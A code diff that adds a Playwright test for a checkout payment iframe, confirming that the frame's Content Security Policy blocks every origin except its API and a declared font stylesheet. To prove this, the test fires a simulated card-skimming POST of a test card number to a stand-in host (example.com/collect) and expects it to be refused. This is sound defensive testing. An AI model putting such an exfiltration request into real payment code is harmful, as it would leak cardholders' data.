@@ -66,6 +66,23 @@ test('a fonts cssSrc gives the frame its @font-face rules only, and the faces th
   expect(await frame.getByLabel('UPI ID', { exact: true }).evaluate((el) => getComputedStyle(el).outlineWidth)).not.toBe('7px');
 });
 
+test("the frame's CSP lets it reach its API and the origins its URL declares (a font stylesheet here), and nothing else", async ({ page }) => {
+  const violations: string[] = [];
+  page.on('console', (message) => {
+    if (/Content Security Policy/i.test(message.text())) violations.push(message.text());
+  });
+  await page.goto('/checkout.html?fonts=spy');
+  const iframe = page.locator('#payment iframe');
+  // The font stylesheet's origin is declared in the frame URL's query (runtime/src/payment-element.ts).
+  await expect(iframe).toHaveAttribute('src', /\/frame\/\?connect=http%3A%2F%2Flocalhost%3A\d+#/);
+  await expect(iframe.contentFrame().locator('.Form').first()).toBeVisible();
+  expect(violations).toEqual([]);
+  // A request that an injected script could send with the card: refused by the frame's own policy, before any network.
+  const frame = page.frames().find((candidate) => candidate.url().includes('/frame/'))!;
+  await frame.evaluate(() => fetch('https://example.com/collect', { method: 'POST', body: '4242' }).catch(() => {}));
+  await expect.poll(() => violations.join('\n')).toMatch(/https:\/\/example\.com\/collect' violates the following Content Security Policy directive: "connect-src /);
+});
+
 test('unmount and remount: a new frame connects and the payment still works', async ({ page }) => {
   // The handshake names exact origins (protocol/frame-handshake.ts); a message to a window not yet at that origin
   // would make the browser log a mismatch.
